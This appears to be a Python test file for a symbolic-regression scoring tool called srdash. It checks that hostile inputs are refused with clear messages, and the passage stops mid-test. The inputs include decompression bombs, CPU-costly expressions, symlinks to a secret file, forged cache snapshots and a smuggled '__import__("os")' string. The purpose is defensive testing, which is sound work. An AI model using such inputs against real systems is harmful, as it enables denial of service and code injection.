"""Hostile and malformed input (issues 14, 24, 32): a clear problem, never a crash, a leak or a silent wrong verdict.

One test (or a few) per class of each issue, in the order of the issue's list,
each reading the input it guards against from ``tests/data/hostile/`` (see the
README there) or building it with a script there (``make_bombs.py``,
``make_hostile.py``, ``make_inputs.py``; ``benchmarks/hostile.py`` builds the same inputs). Where a
class has a resource bound (seconds, MB), its test asserts it loosely (several
times what ``benchmarks/hostile.py`` measures, never a tight timed assert).
"""

from __future__ import annotations

import csv
import functools
import importlib.util
import io
import json
import math
import os
import re
import shutil
import sys
import time
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import child_processes  # tests/ is on sys.path (pytest prepends it)
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
import sympy
from sympy.parsing.sympy_parser import convert_xor, parse_expr, standard_transformations

from srdash.errors import ModelRejected, SrdashError, ValidationError
from srdash.expressions import complexity_table, evaluate_model, latex_of, parse_model
from srdash.io.files import FileRefused, read_file_bytes
from srdash.io.loading import load_results
from srdash.judging.domains import check_domains
from srdash.io.predictions import Targets
from srdash.judging.predictions import score_submissions
from srdash.judging.ranking import judge
from srdash.judging.rules import Criterion, load_rules

HOSTILE = Path(__file__).parent / "data" / "hostile"
REALDATA = Path(__file__).resolve().parents[1] / ".." / "shared" / "realdata"


def _lines(name: str) -> list[str]:
    return [line for line in (HOSTILE / name).read_text().splitlines() if line and not line.startswith("#")]


@functools.cache
def _script(name: str):
    """A script of ``tests/data/hostile/`` that builds hostile inputs (``make_bombs``, ``make_hostile``)."""
    spec = importlib.util.spec_from_file_location(name, HOSTILE / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


MAKE = _script("make_hostile")

# --------------------------------------------------------------------------- class 1: undefined values


@pytest.mark.parametrize("model", _lines("undefined_models.txt"))
def test_undefined_models_are_a_listed_problem_when_evaluated(model):
    with pytest.raises(ModelRejected, match=r"undefined or not finite: it contains (zoo|nan|oo|-oo)"):
        evaluate_model(model, {"x1": np.array([1.0, 2.0])})


def test_undefined_models_get_no_components_and_the_worst_simplicity():
    models = _lines("undefined_models.txt")
    table = complexity_table(models, timeout=5)
    assert (table["status"] == "rejected").all(), table[["status", "reason"]]
    assert table["components"].isna().all()  # NaN components: the worst simplicity, never a tiny model
    assert table["reason"].str.contains("counts as the worst value").all()


def test_an_undefined_model_is_the_worst_in_the_qualification_not_a_crash():
    from srdash.judging.qualification import evaluate_qualification_models

    frame = pd.DataFrame({"x": np.arange(20.0)})
    frame["target"] = 2 * frame["x"] + 1
    models = ["2*x + 1"] + [m.replace("x1", "x") for m in _lines("undefined_models.txt")]
    results = pd.DataFrame({"method": [f"m{i}" for i in range(len(models))], "dataset": "line", "model": models})
    r2 = evaluate_qualification_models(results, {"line": frame})["r2_test"].tolist()
    # The exact model has R2 = 1; every undefined one the worst value (-inf), none raises.
    assert r2 == [1.0] + [-math.inf] * (len(models) - 1)


def test_srdash_score_with_descriptions_lists_an_undefined_model_and_ranks_it_last(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from srdash.cli import main
    from srdash.io.datasets import write_property_datasets

    monkeypatch.setenv("SRDASH_CACHE_DIR", str(tmp_path / "cache"))
    table = write_property_datasets(tmp_path / "data", seed=1)
    undefined = _lines("undefined_models.txt")[0]  # x1/0
    rows = []
    for spec in table:
        rows.append({"method": "Line", "dataset": spec.name, "model": "1.5*x1 + 0.5"})
        rows.append({"method": "Undefined", "dataset": spec.name, "model": undefined})
    pd.DataFrame(rows).to_csv(tmp_path / "results.csv", index=False)
    result = CliRunner().invoke(main, [
        "score", str(tmp_path / "results.csv"), "--descriptions", str(tmp_path / "data" / "datasets.yaml"),
        "-o", str(tmp_path / "lb.csv"), "--problems", str(tmp_path / "problems.csv"), "--no-cache"])
    assert result.exit_code == 0, result.output  # before issue 14: a KeyError traceback
    assert list(pd.read_csv(tmp_path / "lb.csv")["method"]) == ["Line", "Undefined"]
    problems = pd.read_csv(tmp_path / "problems.csv")
    listed = problems[problems["method"] == "Undefined"].astype(str).agg(" ".join, axis=1)
    assert listed.str.contains("undefined or not finite").any()


def test_latex_of_an_undefined_model_is_shown_not_raised():
    # The property view shows the model as it is: LaTeX of zoo is fine, only evaluation refuses it.
    assert latex_of("x1/0") == r"\tilde{\infty} x_{1}"


# --------------------------------------------------------------------------- class 2: unbounded work


COSTLY = _lines("costly_models.txt")


@pytest.mark.parametrize("model", COSTLY, ids=[f"costly{i}" for i in range(len(COSTLY))])
def test_costly_strings_are_parsed_or_refused_with_a_structural_reason(model):
    try:
        expression = parse_model(model)
    except ModelRejected as exc:
        assert exc.reason and exc.status in ("rejected", "parse_error")
        assert any(word in exc.reason for word in (
            "compare too many arguments", "nested", "digits", "float64 range", "too long", "nodes",
            "too large", "characters long", "not valid syntax", "cannot be parsed", "CPU time", "integer power"))
    else:
        assert isinstance(expression, sympy.Expr)


@pytest.mark.parametrize("model, message", [
    ("max(" + ",".join(f"x{i}" for i in range(80)) + ")",
     r"max\(\) calls compare too many arguments \(max\(\) with 80 arguments"),
    ("max(" * 40 + "x0" + "".join(f",x{i})" for i in range(1, 41)),
     r"once nested calls are merged"),
    ("x**" * 300 + "x", r"nested more than 100 levels deep"),
    ("9" * 4000 + "**" + "9" * 4000, r"would be a number with more than 1e300 digits"),
])
def test_the_blow_ups_of_the_issue_are_refused(model, message):
    with pytest.raises(ModelRejected, match=message):
        parse_model(model)


def test_a_binary_max_of_honest_depth_is_accepted():
    # 10 nested binary max(): sum of k**2 for k = 2..11 = 505 pairwise work, within the 1,000 budget.
    model = "max(" * 10 + "x0" + "".join(f", x{i})" for i in range(1, 11))
    assert parse_model(model) == sympy.Max(*sympy.symbols("x0:11"))


def test_evaluation_and_latex_are_bounded_by_the_same_limits():
    model = "max(" + ",".join(f"x{i}" for i in range(80)) + ")"
    with pytest.raises(ModelRejected, match=r"compare too many arguments"):
        latex_of(model)
    with pytest.raises(ModelRejected, match=r"compare too many arguments"):
        evaluate_model(model, {f"x{i}": np.zeros(2) for i in range(80)})


def test_the_cpu_backstop_stops_work_in_the_main_thread_and_never_nests(monkeypatch):
    import threading

    import srdash.expressions as expressions

    # An honest but slow string (factor_terms of ~1,900 nodes: ~0.1 s), under a backstop of 1 ms.
    model = "factor_terms(" + "+".join(f"{i}*x{i}*y" for i in range(470)) + ")"
    monkeypatch.setattr(expressions.parse, "BACKSTOP_SECONDS", 0.001)
    with pytest.raises(ModelRejected, match=r"Parsing the model took more than 0\.001 s of CPU time"):
        parse_model(model)
    # It never nests: inside a worker task already under a CPU-time limit, no second timer is set.
    from srdash.expressions._timelimit import soft_time_limit

    with soft_time_limit(60, clock="cpu"):
        assert isinstance(parse_model(model), sympy.Expr)

# --------------------------------------------------------------------------- class 3: files


@pytest.fixture
def submissions(tmp_path):
    """SUBMISSIONS/team/... with an honest file, a link out, a dangling link, a FIFO and a huge file."""
    outside = tmp_path / "private"
    outside.mkdir()
    shutil.copy(HOSTILE / "secret.txt", outside / "secret.txt")
    root = tmp_path / "SUBMISSIONS"
    team = root / "team"
    team.mkdir(parents=True)
    (team / "a-honest.txt").write_text("1\n2\n3\n4\n")
    (team / "b-link.txt").symlink_to(outside / "secret.txt")
    (team / "c-dangling.txt").symlink_to(team / "removed.txt")  # inside, but gone
    os.mkfifo(team / "d-fifo.txt")
    with open(team / "e-huge.txt", "wb") as handle:  # sparse: 100 MiB without writing them
        handle.truncate(100 * 2**20)
    return root


def _targets() -> Targets:
    return Targets.from_arrays([1.0, 2.0, 3.0, 4.0], ["preliminary", "preliminary", "final", "final"])


def test_bad_submission_files_are_refused_one_by_one_and_never_quoted(submissions):
    result = score_submissions(submissions, _targets(), metric="rmse")
    table = result.submissions.set_index("submission")
    assert table.loc["a-honest.txt", "status"] == "ok"
    reasons = table["reason"]
    assert "is a link that leads outside the folder" in reasons["b-link.txt"]
    assert "is a dangling link" in reasons["c-dangling.txt"]
    assert "is a FIFO (named pipe), not a regular file" in reasons["d-fifo.txt"]
    assert "is 100.0 MiB; the limit is 64.0 MiB" in reasons["e-huge.txt"]
    everything = table.to_csv() + "".join(str(p) for p in result.problems)
    assert "TOP-SECRET" not in everything and "second secret" not in everything


def test_the_file_helper_refuses_links_leaving_the_folder_but_follows_links_inside(tmp_path):
    (tmp_path / "data.txt").write_text("1\n")
    (tmp_path / "alias.txt").symlink_to(tmp_path / "data.txt")
    assert read_file_bytes(tmp_path / "alias.txt", root=tmp_path) == b"1\n"
    with pytest.raises(FileRefused, match=r"is a link that leads outside the folder"):
        read_file_bytes(tmp_path / "alias.txt", root=tmp_path / "sub")


def test_a_json_results_folder_with_a_link_out_lists_the_file_without_its_content(tmp_path):
    shutil.copy(HOSTILE / "secret.txt", tmp_path / "secret.json")
    folder = tmp_path / "results"
    folder.mkdir()
    (folder / "run.json").write_text('{"algorithm": "A", "dataset": "d", "random_state": 0, "r2_test": 0.5, '
                                     '"symbolic_model": "x1"}')
    (folder / "stolen.json").symlink_to(tmp_path / "secret.json")
    with pytest.raises(ValidationError, match=r"stolen\.json: is a link that leads outside the folder") as info:
        load_results(folder)
    assert "TOP-SECRET" not in str(info.value)


def test_a_fifo_named_as_the_results_file_is_refused_not_waited_for(tmp_path):
    os.mkfifo(tmp_path / "results.csv")
    with pytest.raises(SrdashError, match=r"is a FIFO \(named pipe\), not a regular file"):
        load_results(tmp_path / "results.csv")

# --------------------------------------------------------------------------- class 4: CSV shape


def test_trailing_commas_are_reported_not_read_as_an_index_column():
    with pytest.raises(ValidationError, match=r"row 1: has 6 fields but the header has 5 \(method, dataset, run, "
                                              r"r2_test, components\); the row ends with an extra ','") as info:
        load_results(HOSTILE / "results_trailing_commas.csv")
    assert len(info.value.problems) == 4  # every row, each named


def test_an_unquoted_comma_in_a_model_is_named_with_what_to_do():
    with pytest.raises(ValidationError, match=r"row 2: has 6 fields but the header has 5 .*put such values in "
                                              r"double quotes"):
        load_results(HOSTILE / "results_extra_field.csv")


def test_a_semicolon_separated_csv_says_so():
    with pytest.raises(ValidationError, match=r"the file looks separated by ';', but this file type is read "
                                              r"with ','"):
        load_results(HOSTILE / "results_semicolons.csv")


def test_a_submission_csv_with_trailing_commas_is_rejected_with_what_to_do(tmp_path):
    team = tmp_path / "SUBMISSIONS" / "team"
    team.mkdir(parents=True)
    shutil.copy(HOSTILE / "submission_trailing_commas.csv", team / "sub.csv")
    result = score_submissions(tmp_path / "SUBMISSIONS", _targets(), metric="rmse")
    reason = result.submissions["reason"].iloc[0]
    assert result.submissions["status"].iloc[0] == "rejected"
    assert "has 3 fields but the header has 2 (id, prediction); the row ends with an extra ','" in reason


# --------------------------------------------------------------------------- class 5: domains


def test_out_of_domain_accuracy_is_the_worst_value_and_names_are_trimmed():
    with pytest.warns(UserWarning, match=r"method names are compared after trimming surrounding spaces; "
                                         r"merged: ' A ' and 'A' -> 'A'"):
        results = load_results(HOSTILE / "results_out_of_domain.csv")
    assert sorted(results.table["method"].unique()) == ["A", "B", "C", "D"]  # ' A ' is A, no extra method
    table = results.table.assign(simplicity=-1.0, property=0.5)
    verdict = judge(table, load_rules("srbench2022"))
    problems = [w for w in verdict.warnings if "outside its domain" in w or "not a finite value" in w]
    assert len(problems) == 3, verdict.warnings
    assert any("method 'B', dataset 'd1', run 0 has 1.5, outside its domain [-inf, 1]" in p for p in problems)
    assert any("method 'C', dataset 'd1', run 0 has inf, not a finite value" in p for p in problems)
    # On d1, A (0.9) is the only valid accuracy: B, C and D (1.5, inf, 1e308) share the worst rank.
    # Ranks are "higher = better" (average ties): A = 4, B = C = D = (1 + 2 + 3) / 3 = 2.
    ranks = verdict.per_dataset.query("dataset == 'd1'").set_index("method")["accuracy_rank"]
    assert ranks.to_dict() == {"A": 4.0, "B": 2.0, "C": 2.0, "D": 2.0}


def test_check_domains_does_not_touch_its_input():
    table = pd.DataFrame({"method": ["a"], "dataset": ["d"], "run": [0], "r2_test": [2.0]})
    checked = check_domains(table, load_rules("srbench2022"))
    assert table["r2_test"].tolist() == [2.0]
    assert np.isnan(checked.table["r2_test"].iloc[0])


def test_a_domain_must_be_an_interval():
    with pytest.raises(SrdashError, match=r"criterion 'a': 'domain' must be two numbers \[low, high\]"):
        Criterion("a", "b", domain=(1.0, 0.0))


def test_a_twenty_digit_run_and_fractional_components_are_row_problems():
    with pytest.raises(ValidationError) as info:
        load_results(HOSTILE / "results_huge_run.csv")
    text = str(info.value)
    assert "row 1, column 'run': '12345678901234567890' is outside the range of run ids" in text
    assert "row 2, column 'components': '0.5' is not a finite number >= 1" in text


def test_a_twenty_digit_run_never_wraps_around_in_the_qualification():
    from srdash.judging.qualification import canonical_results, read_qualification_results

    # pandas reads 12345678901234567890 as uint64; int64 would make it -6101065172474983726.
    with pytest.raises(ValidationError, match=r"row 1, column 'run': 12345678901234567890 is outside the range "
                                              r"of run ids"):
        canonical_results(read_qualification_results(HOSTILE / "results_huge_run.csv"))


# --------------------------------------------------------------------------- class 7: real models


_GPLEARN = {"add": lambda a, b: a + b, "sub": lambda a, b: a - b, "mul": lambda a, b: a * b,
            "div": lambda a, b: a / b, "neg": lambda a: -a, "inv": lambda a: 1 / a,
            "square": lambda a: a**2, "cube": lambda a: a**3, "max": sympy.Max, "min": sympy.Min}


def _sympy_size(text: str) -> int:
    """Node count of sympy's own parser's result: trusted corpus strings only (parse_expr runs code)."""
    expression = parse_expr(" ".join(text.splitlines()), local_dict=dict(_GPLEARN),
                            transformations=standard_transformations + (convert_xor,))
    return sum(1 for _ in sympy.preorder_traversal(expression))


def _size(expression) -> int:
    return sum(1 for _ in sympy.preorder_traversal(expression))


def _corpus() -> list[tuple[str, str]]:
    with open(HOSTILE / "real_models.csv", newline="") as handle:
        return [(row["package"], row["model"]) for row in csv.DictReader(handle)]


@pytest.mark.parametrize("package, model", _corpus())
def test_real_sr_output_parses_to_the_size_sympy_gives(package, model):
    expression = parse_model(model)
    assert _size(expression) == _sympy_size(model), (package, model)


def test_the_2023_entries_all_parse_with_sympys_sizes():
    path = REALDATA / "srbench2023" / "track1_models.csv"
    if not path.is_file():
        pytest.skip(f"real data not available ({path})")
    models = pd.read_csv(path)
    assert len(models) == 30
    for row in models.itertuples():
        assert _size(parse_model(row.model)) == _sympy_size(row.model), (row.team, row.dataset)


def test_the_2022_procedure_vocabulary_maps_to_sympy_objects():
    x = sympy.Symbol("x")
    assert parse_model("ln(x)") == sympy.log(x)
    assert parse_model("E**x + pi") == sympy.exp(x) + sympy.pi
    assert parse_model("10**(-4)*x") == x / 10000
    assert parse_model("Piecewise((x, x > 0), (0, True))") == sympy.Piecewise((x, x > 0), (0, True))
    assert parse_model("factor_terms(2*x + 4*x**2)") == sympy.factor_terms(2 * x + 4 * x**2)


def test_helpers_never_run_text():
    # factor_terms and friends receive sympy objects built by the whitelist, never a string.
    with pytest.raises(ModelRejected, match=r"Strings are not allowed in a model"):
        parse_model("factor_terms('__import__(\"os\")')")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert str(parse_model("Piecewise((1, True))")) == "1"


# =========================================================================== issue 24 (hostile input, round 3)
# One section per class, in the order of the issue's list (High 1-3, Medium 4-9, Low 10-16).


# ----------------------------------------------------------------- issue 24, class 1: a number literal that costs hours


@pytest.mark.parametrize("literal, message", [
    ("2e9999999", r"has a decimal exponent of 9999999; number literals are limited to exponents from -1,000 "
                  r"to 1,000"),
    ("2_0E-9_999_999", r"has a decimal exponent of -9999999"),
    ("0.0e1001", r"has a decimal exponent of 1,001"),
    ("0.001e1002", r"has a decimal exponent of 1,002"),
    ("0." + "0" * 1000 + "1", r"has a decimal exponent of -1,001"),
    ("1" + "0" * 400 + ".5", r"has 402 significant digits; number literals are limited to 100"),
    ("1." + "3" * 3000, r"has 3,001 significant digits"),
])
def test_number_literals_are_bounded_by_what_they_cost_before_sympy_sees_them(literal, message):
    # Issue 24: sympy turns a float literal into an exact rational in C code no signal stops
    # (2e9999999: an integer of ten million digits, > 400 s), and evaluates functions of
    # thousands of digits at that precision.
    for work in (parse_model, latex_of, lambda m: evaluate_model(m, {"x1": np.ones(2)})):
        with pytest.raises(ModelRejected, match=message):
            work(f"x1 + erf({literal})")


@pytest.mark.parametrize("model", ["x1 + 1e-10", "3.14159265358979*x1", "6.02214076e23*x1", "1.7e308 + x1",
                                   "4.9e-324*x1", "0.000_001*x1", "1_000.5e-3*x1", "0e400 + x1", "1e-1000*x1",
                                   "1." + "1" * 99 + "*x1"])
def test_real_number_literals_are_kept(model):
    assert isinstance(parse_model(model), sympy.Expr)


_DIGITS = st.text("0123456789", min_size=0, max_size=4000)
_LITERAL_MODELS = st.builds(
    MAKE.literal_model, whole=st.text("0123456789", min_size=1, max_size=4000), fraction=st.none() | _DIGITS,
    exponent=st.none() | st.integers(-1100, 1100) | st.integers(-10**7, 10**7),
    functions=st.lists(st.sampled_from(["erf", "sin", "exp", "log", "sqrt", "tanh", "atan", "cosh"]), max_size=4))
_LITERAL_BUDGET = 10.0  # seconds per model for all three, loosely (measured: benchmarks/hostile.py --classes 1)


def _parse_latex_evaluate(model: str) -> None:
    for work in (parse_model, latex_of, lambda m: evaluate_model(m, {"x1": np.linspace(0.1, 1, 3)})):
        try:
            work(model)
        except ModelRejected:
            pass


@pytest.mark.parametrize("model", MAKE.LITERAL_MODELS.values(), ids=list(MAKE.LITERAL_MODELS))
def test_the_literals_of_the_issue_cost_at_most_seconds_in_the_main_thread_and_in_a_worker_thread(model):
    # Before: 2e9999999 more than 400 s; thousands of digits in functions 10-50 s. Bound asserted: 5 s for
    # parse + LaTeX + evaluation (measured at most 0.6 s, most under 0.01 s: benchmarks/hostile.py --classes 1).
    import threading

    assert MAKE.cost(_parse_latex_evaluate, model)[0] < 5.0
    worker = threading.Thread(target=_parse_latex_evaluate, args=(model,), daemon=True)
    worker.start()
    worker.join(5.0)
    assert not worker.is_alive()


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(model=_LITERAL_MODELS)
def test_number_literals_cost_little_in_the_main_thread_and_in_a_worker_thread(model):
    import threading

    start = time.perf_counter()
    _parse_latex_evaluate(model)
    assert time.perf_counter() - start < _LITERAL_BUDGET, model[:200]
    worker = threading.Thread(target=_parse_latex_evaluate, args=(model,), daemon=True)
    worker.start()
    worker.join(_LITERAL_BUDGET)
    assert not worker.is_alive(), f"still working after {_LITERAL_BUDGET} s in a thread: {model[:200]}"


def test_the_cpu_backstop_also_stops_work_in_a_worker_thread(monkeypatch):
    import threading

    import srdash.expressions as expressions

    model = "factor_terms(" + "+".join(f"{i}*x{i}*y" for i in range(470)) + ")"  # ~0.1 s of honest work
    monkeypatch.setattr(expressions.parse, "BACKSTOP_SECONDS", 0.001)
    outcome = []

    def run():
        try:
            outcome.append(parse_model(model))
        except ModelRejected as exc:
            outcome.append(exc)

    worker = threading.Thread(target=run)
    worker.start()
    worker.join()
    assert isinstance(outcome[0], ModelRejected)
    assert "Parsing the model took more than 0.001 s of CPU time" in outcome[0].reason
    # The thread's profile function is gone afterwards: later work runs unhindered.
    monkeypatch.setattr(expressions.parse, "BACKSTOP_SECONDS", 10.0)
    worker = threading.Thread(target=run)
    worker.start()
    worker.join()
    assert isinstance(outcome[1], sympy.Expr)

# ------------------------------------------------ issue 24, class 2: decompression of Parquet (and CSV.gz) is unbounded


def _bombs():
    return _script("make_bombs")


@pytest.mark.parametrize("make, message", [
    ("parquet_rows", r"rows\.parquet': has 5,000,000 rows; the limit is 1,000,000"),
    ("parquet_dictionary", r"dictionary\.parquet': holds 1\.9 GiB of values once its repeated strings are "
                           r"written out; the limit for a Parquet file is 256\.0 MiB"),
    ("gzip_csv", r"big\.csv\.gz': expands to more than 64 MiB of text \(the limit for a CSV, compressed or not\)"),
    ("gzip_csv_rows", r"rows\.csv\.gz': has about 2,000,001 rows; the limit is 1,000,000"),
])
def test_decompression_bombs_are_refused_before_they_are_read_whole(tmp_path, make, message):
    # Issue 24: a 2 KB Parquet expanding to 2 GB; a CSV.gz within 256 MiB still costing ~30x in pandas.
    # Each file is under 1 MB on disk; reading a tenth of it whole costs 0.1-1.5 GB (benchmarks/hostile.py).
    names = {"parquet_rows": "rows.parquet", "parquet_dictionary": "dictionary.parquet",
             "gzip_csv": "big.csv.gz", "gzip_csv_rows": "rows.csv.gz"}
    path = getattr(_bombs(), make)(tmp_path / names[make])
    assert path.stat().st_size < 2**20
    with pytest.raises(SrdashError, match=message):
        load_results(path)
    # The bound refusing respects, loosely: Parquet from its metadata, CSV streamed up to its 64 MiB of
    # text (measured: at most 4 MB for Parquet, 100 MB for CSV.gz, 0.35 s; benchmarks/hostile.py --classes 2).
    seconds, megabytes = MAKE.cost(load_results, path)
    assert seconds < 5.0
    assert megabytes is None or megabytes < (64 if path.suffix == ".parquet" else 512), megabytes


def test_parquet_pages_expanding_beyond_the_limit_are_refused_from_the_metadata(tmp_path, monkeypatch):
    import srdash.io.files as files

    # The limit lowered to 1 MiB so that the bomb stays small to build: one 2 MiB model, compressed.
    monkeypatch.setitem(files.MAX_EXPANDED_BYTES, "parquet", 2**20)
    path = _bombs().parquet_pages(tmp_path / "pages.parquet", size=2 * 2**20)
    with pytest.raises(SrdashError, match=r"pages\.parquet': expands to 2\.0 MiB of column data; the limit for a "
                                          r"Parquet file is 1\.0 MiB"):
        load_results(path)


def test_a_string_repeated_through_a_parquet_dictionary_is_held_once(tmp_path):
    from srdash.io.files import read_parquet_bytes

    path = _bombs().parquet_dictionary(tmp_path / "d.parquet", rows=1_000, width=3_000)
    frame = read_parquet_bytes(path.read_bytes(), path=path)
    assert frame["model"].iloc[0] is frame["model"].iloc[999]  # one object, not 1,000 copies
    assert load_results(path).table.shape[0] == 1_000  # and an honest-sized file still loads


# --------------------------------------------------------------------- issue 24, class 3: the cache is trusted too much


def _ok_row():
    return ("k", {"model": "x", "status": "ok", "components": 1.0, "simplified": "x", "reason": "",
                  "features_used": "x", "seconds": 0.01})


def test_a_cache_folder_others_can_write_is_refused(tmp_path):
    # Whoever can write the folder can replace the key beside the database and sign rows.
    from srdash.cache import CacheRefused, ResultCache

    folder = tmp_path / "shared"
    folder.mkdir()
    os.chmod(folder, 0o777)
    with pytest.raises(CacheRefused, match=r"The cache folder '.*shared' is writable by other users \(mode 777\); "
                                           r"whoever can write it could replace the cache's key"):
        ResultCache(folder).put_many([_ok_row()])
    assert not (folder / "complexity.sqlite.key").exists()


def test_a_key_file_others_can_write_or_a_linked_key_is_refused(tmp_path):
    from srdash.cache import CacheRefused, ResultCache

    (tmp_path / "a").mkdir()
    with ResultCache(tmp_path / "a") as cache:
        cache.put_many([_ok_row()])
    key = tmp_path / "a" / "complexity.sqlite.key"
    os.chmod(key, 0o666)
    with pytest.raises(CacheRefused, match=r"key file '.*complexity\.sqlite\.key' is not a private file of yours"):
        ResultCache(tmp_path / "a").get_many(["k"])
    os.chmod(key, 0o600)
    key.rename(tmp_path / "elsewhere.key")
    key.symlink_to(tmp_path / "elsewhere.key")  # a key swapped for a link to the writer's own file
    with pytest.raises(CacheRefused, match=r"is not a private file of yours"):
        ResultCache(tmp_path / "a").get_many(["k"])


def test_a_new_cache_folder_is_private():
    import stat
    import tempfile

    from srdash.cache import ResultCache

    with tempfile.TemporaryDirectory() as root, ResultCache(Path(root) / "new" / "cache" / "c.sqlite") as cache:
        cache.put_many([_ok_row()])
        assert stat.S_IMODE((Path(root) / "new" / "cache").stat().st_mode) == 0o700


def test_a_signed_snapshot_can_never_run_code_it_is_data(tmp_path):
    # Whoever can write the cache folder may hold its key and sign any blob. A snapshot is JSON plus
    # Parquet (format 2): a signed pickle is not read at all, and a JSON blob naming a function, or a
    # class beyond the exact dataclasses a prepared competition is made of, builds nothing.
    from srdash.cache import ResultCache
    from srdash.judging import snapshot
    from srdash.judging.competition import competition_from_options

    (tmp_path / "results.csv").write_text("method,dataset,r2_test,model\na,d1,0.9,x1 + x1\nb,d1,0.8,x1*x2\n")
    competition = competition_from_options(tmp_path / "results.csv", jobs=1, cache=str(tmp_path / "cache"))
    forged = MAKE.forged_snapshots(tmp_path / "pwned")
    key = snapshot.snapshot_key(competition)
    manifest = {"format": snapshot.SNAPSHOT_FORMAT, "created": time.time(), "files": {}, "warnings": []}
    with ResultCache(competition.simplification.cache) as store:
        for value, _ in forged:
            store.put_snapshot(key, manifest, value)                 # signed with the cache's own key
            assert snapshot.load_snapshot(competition, store) is None
    assert not (tmp_path / "pwned").exists()
    for value, message in forged:
        with pytest.raises(snapshot.SnapshotFormatError, match=message):
            snapshot.loads(value)


def test_a_cache_named_by_the_competition_file_is_ignored_unless_confirmed(tmp_path):
    # A competition file comes from someone else; whoever can write the cache it names decides what
    # its rows say. Ignored with a warning, used when confirmed, stated in the provenance.
    from srdash.judging.competition import load_competition
    from srdash.judging.judgement import file_cache_provenance

    path = MAKE.competition_naming(tmp_path, "cache", '"theirs"')
    with pytest.warns(UserWarning, match=r"line 3: the competition file names the cache '.*theirs'; it is not used "
                                         r"\(srdash's own cache is\) unless you confirm it with "
                                         r"--trust-competition-cache"):
        ignored = load_competition(path)
    assert ignored.simplification.cache is None and ignored.simplification.file_cache.endswith("theirs")
    assert file_cache_provenance(ignored)["cache_named_by_competition_file"].endswith("theirs (not used)")
    trusted = load_competition(path, trust_cache=True)
    assert trusted.simplification.cache == trusted.simplification.file_cache
    assert "used, as confirmed by the user" in file_cache_provenance(trusted)["cache_named_by_competition_file"]


# ---------------------------------------------------------------------- issue 24, class 4: silent duplicates and merges


@pytest.mark.parametrize("trimmed, message", [
    (False, r"run\.json: has repeated keys \('r2_test' twice\); each key may appear once in an object"),
    (True, r"run\.json: has repeated keys \('r2_test' and ' r2_test ', equal once trimmed\)"),
])
def test_a_json_result_with_a_repeated_key_is_a_problem_not_its_last_value(tmp_path, trimmed, message):
    with pytest.raises(ValidationError, match=message):
        load_results(MAKE.json_repeated_key(tmp_path / "results", trimmed=trimmed))


def test_the_same_run_in_two_results_files_is_listed_not_pooled(tmp_path):
    from srdash.judging.competition import load_competition
    from srdash.judging.pipeline import load_competition_results

    path = MAKE.same_run_in_two_files(tmp_path)
    with pytest.raises(ValidationError, match=r"b\.csv: method 'A', dataset 'd', run 1 is also in .*a\.csv; each run "
                                              r"may appear in one results file only") as info:
        load_competition_results(load_competition(path))
    assert len(info.value.problems) == 1


# -------------------------------------------------------------------------- issue 24, class 5: entries saved to nowhere


def _review_app_with_key(tmp_path):
    from srdash.apps.review import ReviewApp, review_inputs_from_environment
    from srdash.judging.trust import TrustStore

    path = tmp_path / "trust.sqlite"
    with TrustStore(path, seed=3) as store:
        key = store.issue_key("ann")
    results = tmp_path / "results.csv"
    pd.DataFrame({"method": ["a", "b"], "dataset": "d1", "model": ["x1", "2*x1"],
                  "r2_test": [0.5, 0.6]}).to_csv(results, index=False)
    environ = {"SRDASH_REVIEW": json.dumps({"store": str(path), "input": str(results)})}
    return ReviewApp(**review_inputs_from_environment(environ, access_key=key)), path, key


def test_a_judge_whose_key_is_revoked_while_the_review_is_open_can_no_longer_save(tmp_path):
    from srdash.judging.trust import TrustStore

    app, path, _ = _review_app_with_key(tmp_path)
    first, second = app.cards["d1"]
    first.trust.value = 1
    assert "All changes saved" in app.saved_indicator.value
    with TrustStore(path) as organiser:
        assert organiser.revoke_keys("ann") == 1
    second.trust.value = 1
    assert "✗ not saved: This access key was revoked on" in second.saved.value
    assert "1 change(s) NOT saved" in app.saved_indicator.value
    first.comment.value = "a comment after the revocation"
    assert "2 change(s) NOT saved" in app.saved_indicator.value
    with TrustStore(path, read_only=True) as reader:  # only the entry made before the revocation
        assert reader.entries()[["method", "value", "comment"]].values.tolist() == [[first.method, 1.0, ""]]
    app.store.close()


def test_a_key_revoked_while_the_page_is_open_saves_nothing_more(tmp_path):
    # The review identifies the visitor once; each save checks the key again.
    from srdash.judging.trust import TrustStore, TrustStoreError

    path = tmp_path / "trust.sqlite"
    key = TrustStore(path, seed=1).issue_key("ann")
    page = TrustStore(path)
    judge, _ = page.identify(key)
    page.record(judge, "d1", "a", kind="rank", value=1)
    with TrustStore(path) as organiser:
        organiser.revoke_keys("ann")
    with pytest.raises(TrustStoreError, match=r"This access key was revoked on .*: the change was NOT saved"):
        page.record(judge, "d1", "a", kind="rank", value=2)
    assert page.entries()["value"].tolist() == [1.0]
    page.close()


@pytest.mark.parametrize("how", ["deleted", "moved", "replaced"])
def test_a_store_deleted_moved_or_replaced_while_judges_work_refuses_to_save(tmp_path, how):
    from srdash.judging.trust import TrustStore, TrustStoreError

    path = tmp_path / "trust.sqlite"
    page = TrustStore(path, seed=1)
    page.record("ann", "d1", "a", kind="rank", value=1)
    if how == "deleted":
        path.unlink()
    elif how == "moved":
        path.rename(tmp_path / "elsewhere.sqlite")
    else:
        shutil.copy(path, tmp_path / "copy.sqlite")
        (tmp_path / "copy.sqlite").replace(path)
    with pytest.raises(TrustStoreError, match=r"the change was NOT saved"):
        page.record("ann", "d1", "a", kind="rank", value=2)
    page.close()


def test_trust_import_into_a_mistyped_store_path_creates_no_new_store(tmp_path):
    from click.testing import CliRunner

    from srdash.cli import main

    source = tmp_path / "scores.csv"
    source.write_text("task,method,expert_score,comment\ncases,operon,5,clear\ncases,pysr,3,\n")
    store = tmp_path / "trsut.sqlite"
    result = CliRunner().invoke(main, ["trust", "import", str(source), "--store", str(store), "--judge", "expert"])
    assert result.exit_code == 1, result.output  # a new store is made with --create only
    assert "There is no trust store at" in result.output and not store.exists()


def test_trust_export_onto_its_own_store_is_refused(tmp_path):
    from click.testing import CliRunner

    from srdash.cli import main

    store = tmp_path / "trust.sqlite"
    runner = CliRunner()
    assert runner.invoke(main, ["trust", "init", "--store", str(store)]).exit_code == 0
    before = store.read_bytes()
